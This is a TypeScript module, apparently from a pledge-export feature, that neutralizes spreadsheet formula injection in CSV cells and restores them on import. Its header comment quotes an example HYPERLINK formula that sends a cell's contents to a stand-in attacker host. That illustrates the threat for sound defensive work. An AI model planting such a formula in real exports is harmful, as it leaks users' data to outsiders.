/**
 * Spreadsheet formula injection (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets run
 * a cell that starts with `=`, `+`, `-` or `@` as a formula, and skip a leading tab or carriage
 * return before one. A public pledge named `=HYPERLINK("http://attacker.example/?"&A1,"Open")`
 * would run on a staff member's machine when they open the export. Every text cell an export
 * writes therefore gets a leading `'` when it starts so, as OWASP recommends, and the import takes
 * exactly that `'` off again, so an exported file imports back unchanged.
 *
 * To keep export → import exact for every text, a text that already starts with apostrophes
 * followed by one of those characters (`'=x`) gets one more (`''=x`), and the import takes one off
 * any cell starting with apostrophes and then one of those characters. A cell that merely starts
 * with `'` (`'Ohana Health`) is left as it is both ways.
 *
 * Number columns are not text: a number written by the export (`-5`, `1e+21`) stays a number a
 * spreadsheet reads as such. Anything else in a number column is treated as text.
 */

/** What a spreadsheet reads as the start of a formula, after any apostrophes we added. */
const formulaStart = /^'*[=+\-@\t\r]/
const escapedFormulaStart = /^'+[=+\-@\t\r]/
/** A number as JavaScript writes one, which a spreadsheet reads as a number, never a formula. */
const numberLiteral = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i

/** A text cell as written to the CSV: with a leading `'` if a spreadsheet would run it. */
export function neutralizeCell(text: string): string {
  return formulaStart.test(text) ? `'${text}` : text
}

/** A cell as read from the CSV: the text `neutralizeCell` was given. */
export function restoreCell(cell: string): string {
  return escapedFormulaStart.test(cell) ? cell.slice(1) : cell
}

/** Every cell of an export row neutralized, except a number in one of `numberColumns`. */
export function neutralizeRow<Row extends Record<string, string>>(row: Row, numberColumns: ReadonlySet<string> = new Set()): Row {
  const out: Record<string, string> = {}
  for (const [column, cell] of Object.entries(row)) {
    out[column] = numberColumns.has(column) && numberLiteral.test(cell) ? cell : neutralizeCell(cell)
  }
  return out as Row
}
